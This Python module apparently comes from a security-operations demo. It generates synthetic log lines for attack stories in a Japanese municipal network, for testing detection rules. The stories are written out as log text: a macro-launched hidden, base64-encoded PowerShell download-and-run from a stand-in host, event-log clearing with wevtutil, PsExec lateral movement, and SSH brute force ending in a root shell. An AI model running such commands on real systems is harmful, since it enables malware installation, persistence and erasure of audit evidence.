r"""Attacks and breaches of rules that happen in the demo ward, each as the log lines they leave behind.

A story is a pure function of the ward, dice and a start time. Nothing in its lines says that they belong to one;
the report finds its alerts by host, user, address and time. Most that cross the tiers are in
`crossing`. For whoever writes rules: what the events carry once normalized and enriched (ECS names), story by story:

``mynumber-to-internet`` (theme flow)
    FortiGate traffic, three sessions to port 443: ``source.ip`` a K- terminal, ``destination.ip`` 203.0.113.66,
    ``event.action`` close, ``labels.flow`` = ``mynumber>world``, ``labels.flow_verdict`` = ``forbidden``.
``unregistered-flow`` (flow)
    FortiGate traffic, four sessions K- terminal → LG-FS01 (10.20.0.11) port 445:
    ``labels.flow`` = ``mynumber>lgwan``, ``labels.flow_verdict`` = ``unregistered``.
``expired-flow`` (flow)
    FortiGate traffic FUKU-AP01 (10.10.0.23) → LG-FS01 port 445, registered as T-003 which is out of date:
    ``labels.flow_verdict`` = ``expired``, ``labels.flow_id`` = ``T-003``.
``usb-mynumber`` (device)
    Operation log (CSV) of a K- terminal: 操作 USBデバイス接続, デバイス名 ``USB大容量記憶装置 …``,
    シリアル番号 not of the ward (no ``MDR-``); then 60 × 操作 ファイルコピー from ``\\MN-FS01\共有\…`` to
    ``E:\…`` in about a minute; USBデバイス切断. The Security log has 6416 with
    ``winlog.event_data.DeviceDescription`` = ``USB Mass Storage Device``.
``mail-chain`` (malware)
    Sysmon on an I- terminal: OUTLOOK.EXE starts WINWORD.EXE with a ``.docm`` from ``Content.Outlook``; WINWORD.EXE
    starts ``powershell.exe -NoP -W Hidden -Enc <base64>`` (``process.parent.name`` WINWORD.EXE); PowerShell 4104 with
    ``Net.WebClient`` and ``DownloadFile``; Squid GET ``http://cdn-update.example.net/….exe``; Sysmon 11 creates
    ``C:\Users\Public\svchost32.exe``; Sysmon 13 sets ``…\CurrentVersion\Run\OneDriveUpdate``.
``password-spray`` (account)
    LG-DC01 Security: 30 × 4625, LogonType 3, one ``source.ip`` (an L- terminal), 30 different users within 90 s.
    An ordinary morning has single 4625 with LogonType 2 at the person's own terminal.
``night-admin-logon`` (account)
    LG-DC01 Security at night: 4624 LogonType 10, ``user.name`` ``adm-…``, and 4672; ``labels.off_hours`` true. Ordinary
    administration uses the same accounts in working hours only.
``log-clear`` (server)
    LG-BUN01, LG-GW01 or LG-RENKEI01: Sysmon 1 ``wevtutil.exe cl Security``, then Security 1102 (provider
    Microsoft-Windows-Eventlog).
``psexec`` (server)
    LG-FS01: 4624 LogonType 3 from an L- terminal, 5145 on ``\\*\ADMIN$`` with ``PSEXESVC.exe``, System 7045 with
    ServiceName ``PSEXESVC``, Sysmon 1 ``PSEXESVC.exe`` → ``cmd.exe`` → ``net.exe group "Domain Admins" /domain``.
``leaver-copy`` (device)
    Operation log of an L- terminal: 150 × 操作 ファイルコピー from ``\\LG-FS01\共有\…`` to
    ``C:\Users\<user>\Desktop\私物\…`` in four minutes. Ordinary staff copy a few files a day, to ``Documents``.
``ssh-guessing`` (server)
    Linux syslog of in-prx01: 25 × sshd ``Failed password for root`` (and other names) from one I- terminal's address,
    then ``Accepted password for backup`` and sudo ``COMMAND=/bin/bash`` by backup.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import datetime

from secops.demo import crossing
from secops.demo.pen import Line, Pen
from secops.demo.rhythm import document_path
from secops.demo.telling import EXPLORER, OFFICE, POWERSHELL, SYSTEM32, after, terminal
from secops.demo.world import DEPARTMENTS, World
from secops.demo.writers import windows


@dataclass(frozen=True, slots=True)
class Scene:
    """A story as it happened once: its lines, and the facts by which its alerts are recognised.

    ``markers`` are host names, addresses and accounts; an alert belongs to the scene if one of its events lies between
    ``start`` and ``end`` and carries one of them.
    """

    story: str
    start: datetime
    end: datetime
    markers: frozenset[str]
    lines: Sequence[Line]


@dataclass(frozen=True, slots=True)
class Story:
    """What may happen: ``themes`` are the rule folders that should notice; ``night`` stories happen at night only."""

    id: str
    title_ja: str
    themes: tuple[str, ...]
    tell: Callable[[Pen, random.Random, datetime], frozenset[str]]
    night: bool = False

    def scene(self, world: World, dice: random.Random, start: datetime) -> Scene:
        """The story, told once at a time."""
        pen = Pen(world)
        markers = self.tell(pen, dice, start)
        lines = sorted(pen.lines)
        return Scene(self.id, start, lines[-1].at, markers, lines)


def _to_internet(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
    machine, _person = terminal(pen, dice, "mynumber")
    for turn in range(3):
        at = after(start, 4 * turn + dice.random())
        pen.session(at, machine.ip, "203.0.113.66", 443, ("mynumber", "world"), policy=99, sent=48_000 + turn * 900)
    return frozenset({machine.ip, machine.name})


def _unregistered(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
    machine, _person = terminal(pen, dice, "mynumber")
    server = pen.world.by_name["LG-FS01"]
    for turn in range(4):
        pen.session(after(start, 7 * turn), machine.ip, server.ip, 445, ("mynumber", "lgwan"), policy=98, sent=310_000)
    return frozenset({machine.ip, machine.name})


def _expired(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
    source, server = pen.world.by_name["FUKU-AP01"], pen.world.by_name["LG-FS01"]
    for turn in range(2):
        at = after(start, 20 * turn + dice.random())
        pen.session(at, source.ip, server.ip, 445, ("mynumber", "lgwan"), policy=13, sent=88_000)
    return frozenset({source.ip, source.name})


def _usb(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
    machine, person = terminal(pen, dice, "mynumber")
    device = {"device": "USB大容量記憶装置 BUFFALO USB Flash Disk", "serial": f"BF{dice.randrange(10**8):08d}"}
    data = {
        "SubjectUserSid": "S-1-5-18",
        "SubjectUserName": f"{machine.name}$",
        "SubjectDomainName": "KIKAN",
        "SubjectLogonId": "0x3e7",
        "DeviceId": rf"USB\VID_0411&PID_01E7\{device['serial']}",
        "DeviceDescription": "USB Mass Storage Device",
        "ClassId": "{36fc9e60-c465-11cf-8056-444553540000}",
        "ClassName": "USB",
        "VendorIds": r"USB\VID_0411&PID_01E7",
        "CompatibleIds": r"USB\Class_08",
        "LocationInformation": "Port_#0003.Hub_#0001",
    }
    pen.windows(start, machine, windows.SECURITY, 6416, data)
    pen.operation(after(start, 1), machine, person.account, "デバイス", "USBデバイス接続", **device)
    for turn in range(60):
        at = after(start, 8 + turn * 1.1)
        path = document_path(pen.world, machine, person.department, dice)
        copied = f"E:\\{turn:03d}_" + path.rsplit("\\", 1)[-1]
        size = dice.randint(80, 4000) * 1024
        pen.operation(
            at,
            machine,
            person.account,
            "ファイル操作",
            "ファイルコピー",
            path=path,
            copied_to=copied,
            size=size,
            **device,
        )
    pen.operation(after(start, 80), machine, person.account, "デバイス", "USBデバイス切断", **device)
    return frozenset({machine.ip, machine.name})


def _mail_chain(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
    machine, person = terminal(pen, dice, "internet")
    user = person.account
    outlook, word = rf"{OFFICE}\OUTLOOK.EXE", rf"{OFFICE}\WINWORD.EXE"
    cache = rf"C:\Users\{user}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\8T2K1QZD"
    opened = rf'"{word}" /n "{cache}\請求書_{dice.randint(1000, 9999)}.docm" /o ""'
    url = f"http://cdn-update.example.net/{dice.randrange(16**6):06x}/setup.exe"
    target = r"C:\Users\Public\svchost32.exe"
    script = f"(New-Object Net.WebClient).DownloadFile('{url}','{target}');Start-Process '{target}'"
    command = f"powershell.exe -NoP -W Hidden -Enc {base64.b64encode(script.encode('utf-16-le')).decode()}"
    pen.process(start, machine, user, word, opened, outlook)
    pen.process(after(start, 6), machine, user, POWERSHELL, command, word, opened)
    block = {
        "MessageNumber": 1,
        "MessageTotal": 1,
        "ScriptBlockText": script,
        "ScriptBlockId": windows.guid(script),
        "Path": "",
    }
    pen.windows(after(start, 7), machine, windows.POWERSHELL, 4104, block)
    pen.web(after(start, 8), machine.ip, "GET", url, size=418_304, user=user)
    at = after(start, 9)
    common = {
        "RuleName": "-",
        "UtcTime": f"{at:%Y-%m-%d %H:%M:%S.000}",
        "ProcessGuid": windows.guid(url),
        "ProcessId": 7412,
        "Image": POWERSHELL,
        "User": rf"SOTO\{user}",
    }
    created = {"TargetFilename": target, "CreationUtcTime": common["UtcTime"]}
    pen.windows(at, machine, windows.SYSMON, 11, common | created)
    pen.process(after(start, 10), machine, user, target, f'"{target}"', POWERSHELL, command)
    run = rf"HKU\{windows.sid(user)}\Software\Microsoft\Windows\CurrentVersion\Run\OneDriveUpdate"
    changed = common | {"EventType": "SetValue", "Image": target, "TargetObject": run, "Details": target}
    pen.windows(after(start, 12), machine, windows.SYSMON, 13, changed)
    return frozenset({machine.ip, machine.name})


def _spray(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
    machine, _person = terminal(pen, dice, "lgwan")
    controller = pen.world.by_name["LG-DC01"]
    for turn, victim in enumerate(dice.sample(pen.world.staff, 30)):
        pen.failed_logon(after(start, 2.5 * turn), controller, victim.account, 3, machine)
    return frozenset({machine.ip, machine.name, controller.name})


def _night_admin(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
    machine, _person = terminal(pen, dice, "lgwan")
    controller = pen.world.by_name["LG-DC01"]
    admin = dice.choice(pen.world.administrators).admin
    pen.logon(start, controller, admin, 10, machine)
    pen.privileges(after(start, 0.03), controller, admin)
    image = rf"{SYSTEM32}\dsa.msc"
    pen.process(after(start, 25), controller, admin, rf"{SYSTEM32}\mmc.exe", f'"mmc.exe" "{image}"', EXPLORER)
    return frozenset({controller.name, admin, machine.ip})


def _log_clear(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
    server = pen.world.by_name[dice.choice(("LG-BUN01", "LG-GW01", "LG-RENKEI01"))]
    admin = dice.choice(pen.world.administrators).admin
    image = rf"{SYSTEM32}\wevtutil.exe"
    pen.process(start, server, admin, image, "wevtutil.exe cl Security", rf"{SYSTEM32}\cmd.exe")
    data = {
        "SubjectUserSid": windows.sid(admin),
        "SubjectUserName": admin,
        "SubjectDomainName": "NAIBU",
        "SubjectLogonId": hex(0x100000 + dice.randrange(60000)),
    }
    pen.windows(after(start, 0.4), server, windows.EVENTLOG, 1102, data)
    return frozenset({server.name, admin})


def _psexec(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
    machine, person = terminal(pen, dice, "lgwan")
    server = pen.world.by_name["LG-FS01"]
    user = person.account
    pen.logon(start, server, user, 3, machine)
    share = {
        "SubjectUserSid": windows.sid(user),
        "SubjectUserName": user,
        "SubjectDomainName": "NAIBU",
        "SubjectLogonId": "0x3f21a",
        "ObjectType": "File",
        "IpAddress": machine.ip,
        "IpPort": 50211,
        "ShareName": r"\\*\ADMIN$",
        "ShareLocalPath": r"\??\C:\Windows",
        "RelativeTargetName": "PSEXESVC.exe",
        "AccessMask": "0x2",
        "AccessList": "%%4417\n\t\t\t\t",
        "AccessReason": "-",
    }
    pen.windows(after(start, 0.3), server, windows.SECURITY, 5145, share)
    service = r"%SystemRoot%\PSEXESVC.exe"
    installed = {
        "ServiceName": "PSEXESVC",
        "ImagePath": service,
        "ServiceType": "user mode service",
        "StartType": "demand start",
        "AccountName": "LocalSystem",
    }
    pen.windows(after(start, 0.6), server, windows.SYSTEM, 7045, installed)
    image, shell, net = r"C:\Windows\PSEXESVC.exe", rf"{SYSTEM32}\cmd.exe", rf"{SYSTEM32}\net.exe"
    pen.process(after(start, 1), server, "SYSTEM", image, image, rf"{SYSTEM32}\services.exe")
    pen.process(after(start, 2), server, "SYSTEM", shell, '"cmd.exe"', image, image)
    pen.process(after(start, 9), server, "SYSTEM", net, 'net.exe group "Domain Admins" /domain', shell, '"cmd.exe"')
    return frozenset({server.name, machine.ip, machine.name})


def _leaver(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
    machine, person = terminal(pen, dice, "lgwan")
    departments = [code for code, *_rest in DEPARTMENTS]
    for turn in range(150):
        at = after(start, turn * 1.6)
        path = document_path(pen.world, machine, dice.choice(departments), dice)
        copied = rf"C:\Users\{person.account}\Desktop\私物\{turn:03d}_" + path.rsplit("\\", 1)[-1]
        size = dice.randint(20, 3000) * 1024
        pen.operation(
            at, machine, person.account, "ファイル操作", "ファイルコピー", path=path, copied_to=copied, size=size
        )
    return frozenset({machine.ip, machine.name})


def _ssh(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
    machine, _person = terminal(pen, dice, "internet")
    host = "in-prx01"
    for turn in range(25):
        at = after(start, 2 * turn)
        port, pid = 40000 + dice.randrange(20000), 30000 + turn
        name = dice.choice(("root", "root", "invalid user admin", "invalid user test", "backup"))
        pen.linux(at, host, "sshd", f"Failed password for {name} from {machine.ip} port {port} ssh2", pid=pid)
    accepted = f"Accepted password for backup from {machine.ip} port 51514 ssh2"
    pen.linux(after(start, 52), host, "sshd", accepted, pid=30100)
    command = "  backup : TTY=pts/1 ; PWD=/home/backup ; USER=root ; COMMAND=/bin/bash"
    pen.linux(after(start, 60), host, "sudo", command, priority=85)
    return frozenset({host, machine.ip, machine.name, "backup"})


STORIES: tuple[Story, ...] = (
    Story(
        "mynumber-to-internet", "マイナンバー利用事務系の端末からインターネットへの直接通信", ("flow",), _to_internet
    ),
    Story("mail-chain", "標的型メールの添付ファイルから PowerShell でのダウンロード", ("malware",), _mail_chain),
    Story("usb-mynumber", "マイナンバー利用事務系の端末での USB メモリ使用と大量の書き出し", ("device",), _usb),
    Story("unregistered-flow", "マイナンバー利用事務系から LGWAN接続系への未登録の特定通信", ("flow",), _unregistered),
    Story("password-spray", "多数の職員のアカウントに対するパスワードの総当たり", ("account",), _spray),
    Story("psexec", "PsExec によるファイルサーバへの侵入の広がり", ("server", "malware"), _psexec),
    Story("log-clear", "業務サーバでの監査ログの消去", ("server",), _log_clear),
    Story("leaver-copy", "退職前の職員によるファイルの大量コピー", ("device",), _leaver),
    Story("night-admin-logon", "深夜の管理者アカウントによるログオン", ("account",), _night_admin, night=True),
    Story("expired-flow", "期限の切れた特定通信の利用", ("flow",), _expired),
    Story("ssh-guessing", "中継サーバへの SSH の総当たりと管理者権限の取得", ("server", "account"), _ssh),
    Story(
        "sanitized-macro",
        "無害化を通ったマクロ付き文書が LGWAN接続系の端末で開かれ、ファイルサーバを探る",
        ("malware",),
        crossing.sanitized_macro,
    ),
    Story(
        "usb-bridge",
        "マイナンバー利用事務系と LGWAN接続系にまたがる USB メモリの使用",
        ("device",),
        crossing.usb_bridge,
    ),
    Story(
        "contractor-night",
        "深夜の保守用リモート接続から住民記録サーバへのログオン",
        ("account", "server"),
        crossing.contractor_night,
        night=True,
    ),
    Story("retired-account", "退職者のアカウントの試行と再有効化", ("account",), crossing.retired_account),
    Story("lgwan-proxy", "LGWAN接続系の端末による Web 中継サーバの直接利用", ("flow",), crossing.lgwan_proxy),
    Story("upload-out", "ファイルサーバからの大量コピーと庁外への大量の送信", ("flow", "device"), crossing.upload_out),
    Story(
        "ransomware",
        "ファイルサーバの暗号化とマイナンバー利用事務系への広がりの試み",
        ("malware", "server"),
        crossing.ransomware,
    ),
    Story("dns-tunnel", "LGWAN接続系の端末からの DNS トンネリング", ("malware",), crossing.dns_tunnel),
    Story(
        "task-and-user",
        "LGWAN接続系から住民記録サーバへの侵入と居座り(タスク・アカウント・監査の停止)",
        ("malware", "server", "account"),
        crossing.task_and_user,
    ),
)
BY_ID = {story.id: story for story in STORIES}
